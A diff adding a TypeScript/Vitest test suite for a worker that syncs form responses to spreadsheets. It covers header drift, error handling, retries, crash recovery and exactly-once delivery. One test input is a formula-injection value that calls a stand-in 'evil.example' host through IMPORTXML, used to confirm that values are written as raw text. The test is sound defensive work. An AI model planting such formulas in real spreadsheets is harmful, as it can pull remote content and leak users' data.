@@ -1,0 +1,397 @@
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { DatabaseHandle } from '../../db/database.js';
+import { describeEachDialect } from '../../test/dialects.js';
+import { createSheetSyncRepository } from './sheet-sync.repository.js';
+import { createSheetSyncService } from './sheet-sync.service.js';
+import {
+  createSyncTestDatabase,
+  eventually,
+  FAST,
+  insertForm,
+  insertResponse,
+  insertUser,
+  responseRows,
+  type SyncEmulator,
+  startSyncEmulator,
+  updateFormFields,
+} from './sheet-sync.test-support.js';
+import { createSheetSyncWorker, type SheetSyncWorkerOptions } from './sheet-sync.worker.js';
+
+const FIELDS = [{ label: 'Name' }, { label: 'Email' }, { label: 'Comment' }];
+
+/** Every id exactly once in the sheet's Response ID column (no duplicates, nothing missing). */
+async function expectExactlyOnce(t: SyncEmulator, spreadsheetId: string, sheet: string, ids: string[]) {
+  const values = await t.sheetValues(spreadsheetId, sheet);
+  const header = values[0] ?? [];
+  const column = header.indexOf('Response ID');
+  expect(column).toBeGreaterThanOrEqual(0);
+  const inSheet = values.slice(1).map((row) => row[column] ?? '');
+  const counts = new Map<string, number>();
+  for (const id of inSheet) counts.set(id, (counts.get(id) ?? 0) + 1);
+  const duplicates = [...counts].filter(([, n]) => n > 1).map(([id]) => id);
+  const missing = ids.filter((id) => !counts.has(id));
+  expect({ duplicates, missing, rows: inSheet.length }).toEqual({
+    duplicates: [],
+    missing: [],
+    rows: ids.length,
+  });
+}
+
+describeEachDialect('sheet sync worker', (dialect) => {
+  let database: DatabaseHandle & { dataDir: string };
+  let t: SyncEmulator;
+  let ownerId: string;
+
+  beforeAll(async () => {
+    database = await createSyncTestDatabase(dialect);
+    t = await startSyncEmulator(database.dataDir);
+    ownerId = await insertUser(database);
+  });
+  afterAll(async () => {
+    await t?.close();
+    await database?.close();
+  });
+
+  function worker(overrides: Partial<SheetSyncWorkerOptions> = {}) {
+    return createSheetSyncWorker({
+      db: database.db,
+      dialect,
+      sheets: t.sheets,
+      shareWithEmail: t.serviceAccountEmail,
+      ...FAST,
+      ...overrides,
+    });
+  }
+
+  /** Runs rounds until every given response is settled (synced or failed). */
+  async function drain(w: ReturnType<typeof worker>, ids: string[], timeoutMs = 30_000) {
+    await eventually(
+      async () => {
+        await w.runOnce();
+        const rows = await responseRows(database, ids);
+        return rows.every((row) => row.sync_state === 'synced' || row.sync_state === 'failed');
+      },
+      timeoutMs,
+      5,
+    );
+  }
+
+  it('appends pending responses once, RAW, under matching headers with Timestamp and Response ID', async () => {
+    const spreadsheetId = await t.createSpreadsheet([
+      { title: 'Responses', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
+    ]);
+    const form = await insertForm(database, ownerId, {
+      spreadsheetId,
+      sheetName: 'Responses',
+      fields: FIELDS,
+    });
+    const a = await insertResponse(
+      database,
+      form.id,
+      { Name: 'Ann', Email: 'ann@example.org', Comment: '=IMPORTXML("http://evil.example","//a")' },
+      { createdAt: '2026-03-07T21:05:00.000Z' },
+    );
+    const b = await insertResponse(
+      database,
+      form.id,
+      { Name: 'Bob', Comment: '0012' },
+      { createdAt: '2026-03-07T09:01:00.000Z' },
+    );
+    const w = worker();
+    const summary = await w.runOnce();
+    expect(summary).toMatchObject({ claimed: 2, synced: 2, failed: 0, retried: 0 });
+    expect(await t.sheetValues(spreadsheetId, 'Responses')).toEqual([
+      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID'],
+      ['Bob', '', '0012', '03/07/2026, 09:01 AM', b],
+      ['Ann', 'ann@example.org', '=IMPORTXML("http://evil.example","//a")', '03/07/2026, 09:05 PM', a],
+    ]);
+    const rows = await responseRows(database, [a, b]);
+    expect(rows.map((r) => r.sync_state)).toEqual(['synced', 'synced']);
+    expect(rows.every((r) => r.synced_at !== null)).toBe(true);
+    // Nothing is written twice.
+    expect(await w.runOnce()).toMatchObject({ claimed: 0 });
+    expect(await t.sheetValues(spreadsheetId, 'Responses')).toHaveLength(3);
+    expect(await createSheetSyncService(database.db).responseSyncState(a)).toBe('synced');
+  });
+
+  it('creates a missing sheet with its header, and a Signature column when signatures are on', async () => {
+    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
+    const form = await insertForm(database, ownerId, {
+      spreadsheetId,
+      sheetName: "Bob's Responses",
+      fields: FIELDS,
+      signatureEnabled: true,
+    });
+    const id = await insertResponse(
+      database,
+      form.id,
+      { Name: 'Cy', Email: 'cy@x.org', Comment: 'hi' },
+      {
+        signatureUrl: 'https://forms.example/uploads/sig-1.png',
+        createdAt: '2026-01-02T00:30:00.000Z',
+      },
+    );
+    await drain(worker(), [id]);
+    expect(await t.sheetValues(spreadsheetId, "Bob's Responses")).toEqual([
+      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID', 'Signature'],
+      ['Cy', 'cy@x.org', 'hi', '01/02/2026, 12:30 AM', id, 'https://forms.example/uploads/sig-1.png'],
+    ]);
+  });
+
+  it('column drift: renamed, added and removed fields and a hand-reordered sheet keep every column in place', async () => {
+    const spreadsheetId = await t.createSpreadsheet([
+      {
+        title: 'Data',
+        rows: [
+          ['Response ID', 'Notes', 'Email', 'Timestamp', 'Name', 'Phone'],
+          ['old-1', 'kept', 'old@x.org', 'then', 'Old', '555'],
+        ],
+      },
+    ]);
+    const form = await insertForm(database, ownerId, {
+      spreadsheetId,
+      sheetName: 'Data',
+      fields: [{ label: 'Name' }, { label: 'Email' }, { label: 'Phone' }],
+    });
+    const before = await insertResponse(database, form.id, { Name: 'Ann', Email: 'a@x.org', Phone: '123' });
+    await updateFormFields(database, form.id, [
+      { label: 'Full name', name: 'Name' }, // renamed in the generator
+      { label: 'E-mail' }, // renamed by hand
+      { label: 'Phone', isRemoved: true },
+      { label: 'City' }, // added
+    ]);
+    const after = await insertResponse(database, form.id, {
+      'Full name': 'Bea',
+      'E-mail': 'b@x.org',
+      City: 'Oslo',
+    });
+    await drain(worker(), [before, after]);
+    const values = await t.sheetValues(spreadsheetId, 'Data');
+    expect(values[0]).toEqual([
+      'Response ID',
+      'Notes',
+      'Email',
+      'Timestamp',
+      'Name',
+      'Phone',
+      'E-mail',
+      'City',
+    ]);
+    expect(values[1]).toEqual(['old-1', 'kept', 'old@x.org', 'then', 'Old', '555']);
+    expect(values[2]).toEqual([before, '', 'a@x.org', expect.any(String), 'Ann', '123']);
+    expect(values[3]).toEqual([after, '', '', expect.any(String), 'Bea', '', 'b@x.org', 'Oslo']);
+  });
+
+  it("marks 403 failed with 'Share the spreadsheet with …', 404 'Spreadsheet not found', and retries on request", async () => {
+    const email = await t.serviceAccountEmail();
+    const privateId = await t.createSpreadsheet([{ title: 'Sheet1' }], false);
+    const privateForm = await insertForm(database, ownerId, {
+      spreadsheetId: privateId,
+      sheetName: 'Sheet1',
+      fields: FIELDS,
+    });
+    const missingForm = await insertForm(database, ownerId, {
+      spreadsheetId: '1NoSuchSpreadsheetExistsHere000000000000000',
+      sheetName: 'Sheet1',
+      fields: FIELDS,
+    });
+    const p = await insertResponse(database, privateForm.id, { Name: 'P' });
+    const m = await insertResponse(database, missingForm.id, { Name: 'M' });
+    const w = worker();
+    await drain(w, [p, m]);
+    const [rp, rm] = await Promise.all([responseRows(database, [p]), responseRows(database, [m])]);
+    expect(rp[0]).toMatchObject({ sync_state: 'failed', attempts: 1 });
+    expect(rp[0]?.last_error).toContain(`Share the spreadsheet with ${email}`);
+    expect(rm[0]).toMatchObject({ sync_state: 'failed' });
+    expect(rm[0]?.last_error).toMatch(/^Spreadsheet not found/);
+
+    const service = createSheetSyncService(database.db);
+    expect(await service.syncCountsForForms(ownerId)).toMatchObject({
+      [privateForm.formId]: { pending: 0, failed: 1 },
+      [missingForm.formId]: { pending: 0, failed: 1 },
+    });
+    expect(await service.retryFailedForForm('someone-else', privateForm.formId)).toBeUndefined();
+    // The owner shares the sheet and retries.
+    await t.control('PATCH', `/spreadsheets/${privateId}`, {
+      sharing: { link: 'none', people: [{ email, role: 'edit' }] },
+    });
+    expect(await service.retryFailedForForm(ownerId, privateForm.formId)).toBe(1);
+    expect(await service.responseSyncState(p)).toBe('pending');
+    await drain(w, [p]);
+    expect(await service.responseSyncState(p)).toBe('synced');
+    await expectExactlyOnce(t, privateId, 'Sheet1', [p]);
+  });
+
+  it('retries 429 and 5xx with backoff, then syncs', async () => {
+    // With the header in place, the only write is the append.
+    const spreadsheetId = await t.createSpreadsheet([
+      { title: 'Sheet1', rows: [['Name', 'Email', 'Comment', 'Timestamp', 'Response ID']] },
+    ]);
+    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
+    const id = await insertResponse(database, form.id, { Name: 'R' });
+    const w = worker({ backoff: { baseMs: 200, factor: 2, capMs: 1000 }, random: () => 0.99 });
+    try {
+      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 429, target: 'all' });
+      expect(await w.runOnce()).toMatchObject({ claimed: 1, retried: 1 });
+      let [row] = await responseRows(database, [id]);
+      expect(row).toMatchObject({ sync_state: 'pending', attempts: 1, dedupe_required: 0 });
+      expect(row?.next_attempt_at).not.toBeNull();
+      // Not claimed again before next_attempt_at.
+      expect(await w.runOnce()).toMatchObject({ claimed: 0 });
+      await t.control('PUT', '/faults', { errorRate: 1, errorStatus: 503, target: 'writes' });
+      await eventually(async () => (await w.runOnce()).retried === 1, 5_000);
+      [row] = await responseRows(database, [id]);
+      // A 503 on the append may hide a stored row: the next try checks the sheet first.
+      expect(row).toMatchObject({ sync_state: 'pending', attempts: 2, dedupe_required: 1 });
+      expect(row?.last_error).toMatch(/^\[ambiguous\]/);
+    } finally {
+      await t.control('DELETE', '/faults');
+    }
+    await drain(w, [id]);
+    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', [id]);
+  });
+
+  it('returns a claim after its lease ends (a crashed worker), checking the sheet before writing again', async () => {
+    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
+    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
+    const ids = [
+      await insertResponse(database, form.id, { Name: 'L1' }),
+      await insertResponse(database, form.id, { Name: 'L2' }),
+    ];
+    const repo = createSheetSyncRepository(database.db, dialect);
+    const at = Date.now();
+    // A worker claims, appends the first row, and dies before settling.
+    const claimed = await repo.claim({
+      now: new Date(at).toISOString(),
+      leaseUntil: new Date(at + 300).toISOString(),
+      workerId: 'crashed',
+      limit: 10,
+    });
+    expect(claimed.map((r) => r.id)).toEqual(ids);
+    await t.sheets.appendValues(spreadsheetId, 'Sheet1', [
+      ['Name', 'Email', 'Comment', 'Timestamp', 'Response ID'],
+    ]);
+    await t.sheets.appendValues(spreadsheetId, 'Sheet1', [['L1', '', '', 'ts', ids[0] ?? '']]);
+    const w = worker();
+    // While the lease lasts, nobody else takes the claim.
+    expect(await w.runOnce()).toMatchObject({ claimed: 0 });
+    await new Promise((resolve) => setTimeout(resolve, 350));
+    expect(await w.runOnce()).toMatchObject({ claimed: 2, synced: 2, alreadyPresent: 1 });
+    await expectExactlyOnce(t, spreadsheetId, 'Sheet1', ids);
+    // The dead worker cannot settle what it no longer holds.
+    expect(await repo.markFailed(ids, 'crashed', 'late')).toBe(0);
+  });
+
+  it('survives lost replies, 429s, 500s and latency: every response exactly once', async () => {
+    const spreadsheetIds = await Promise.all([1, 2, 3].map(() => t.createSpreadsheet([{ title: 'Sheet1' }])));
+    const ids = new Map<string, string[]>();
+    for (const spreadsheetId of spreadsheetIds) {
+      const form = await insertForm(database, ownerId, {
+        spreadsheetId,
+        sheetName: 'Sheet1',
+        fields: FIELDS,
+      });
+      const list: string[] = [];
+      for (let i = 0; i < 80; i++)
+        list.push(await insertResponse(database, form.id, { Name: `N${i}`, Comment: `c${i}` }));
+      ids.set(spreadsheetId, list);
+    }
+    const all = [...ids.values()].flat();
+    const w = worker({ batchSize: 25, maxRowsPerAppend: 10 });
+    try {
+      await t.control('PUT', '/faults', { replyLostWrites: 6, latencyMs: 5, target: 'writes' });
+      await eventually(
+        async () => {
+          await w.runOnce();
+          return (await t.control('GET', '/faults')).faults.replyLostWrites === 0;
+        },
+        20_000,
+        5,
+      );
+      await t.control('PUT', '/faults', { errorRate: 0.3, errorStatus: 500, latencyMs: 5 });
+      for (let i = 0; i < 10; i++) await w.runOnce();
+      await t.control('PUT', '/faults', { errorRate: 0.3, errorStatus: 429 });
+      for (let i = 0; i < 10; i++) await w.runOnce();
+    } finally {
+      await t.control('DELETE', '/faults');
+    }
+    await drain(w, all, 60_000);
+    const rows = await responseRows(database, all);
+    expect(rows.filter((r) => r.sync_state !== 'synced')).toEqual([]);
+    for (const [spreadsheetId, list] of ids) await expectExactlyOnce(t, spreadsheetId, 'Sheet1', list);
+  });
+
+  it('runs as a loop: start, notify, graceful stop', async () => {
+    const spreadsheetId = await t.createSpreadsheet([{ title: 'Sheet1' }]);
+    const form = await insertForm(database, ownerId, { spreadsheetId, sheetName: 'Sheet1', fields: FIELDS });
+    const w = worker({ pollMs: 5_000 });
+    w.start();
+    try {
+      const id = await insertResponse(database, form.id, { Name: 'Loop' });
+      w.notify();
+      await eventually(async () => (await responseRows(database, [id]))[0]?.sync_state === 'synced', 5_000);
+    } finally {
+      await w.stop();
+    }
+  });
+
+  if (dialect === 'postgres') {
+    it('two workers on PostgreSQL write 200 responses, each exactly once', async () => {
+      const spreadsheetIds = await Promise.all(
+        [1, 2, 3, 4].map(() => t.createSpreadsheet([{ title: 'Sheet1' }])),
+      );
+      const ids = new Map<string, string[]>();
+      for (const spreadsheetId of spreadsheetIds) {
+        await insertForm(database, ownerId, {
+          spreadsheetId,
+          sheetName: 'Sheet1',
+          fields: FIELDS,
+        });
+        ids.set(spreadsheetId, []);
+      }
+      const forms = await database.db
+        .selectFrom('forms')
+        .select(['id', 'spreadsheet_id'])
+        .where('spreadsheet_id', 'in', spreadsheetIds)
+        .execute();
+      for (let i = 0; i < 200; i++) {
+        const form = forms[i % forms.length];
+        if (!form?.spreadsheet_id) throw new Error('no form');
+        ids.get(form.spreadsheet_id)?.push(await insertResponse(database, form.id, { Name: `W${i}` }));
+      }
+      const all = [...ids.values()].flat();
+      const workers = [worker({ batchSize: 15, pollMs: 5 }), worker({ batchSize: 15, pollMs: 5 })];
+      const perWorker = new Map<string, number>();
+      const counting = workers.map((w) => {
+        const runOnce = w.runOnce;
+        return async () => {
+          const summary = await runOnce();
+          perWorker.set(w.workerId, (perWorker.get(w.workerId) ?? 0) + summary.synced);
+          return summary;
+        };
+      });
+      await t.control('PUT', '/faults', { latencyMs: 10 });
+      try {
+        await Promise.all(
+          counting.map((run) =>
+            eventually(
+              async () => {
+                await run();
+                const rows = await responseRows(database, all);
+                return rows.every((row) => row.sync_state === 'synced');
+              },
+              60_000,
+              1,
+            ),
+          ),
+        );
+      } finally {
+        await t.control('DELETE', '/faults');
+      }
+      for (const [spreadsheetId, list] of ids) await expectExactlyOnce(t, spreadsheetId, 'Sheet1', list);
+      // Both took part.
+      expect([...perWorker.values()].filter((n) => n > 0)).toHaveLength(2);
+      expect([...perWorker.values()].reduce((a, b) => a + b, 0)).toBe(200);
+    });
+  }
+});
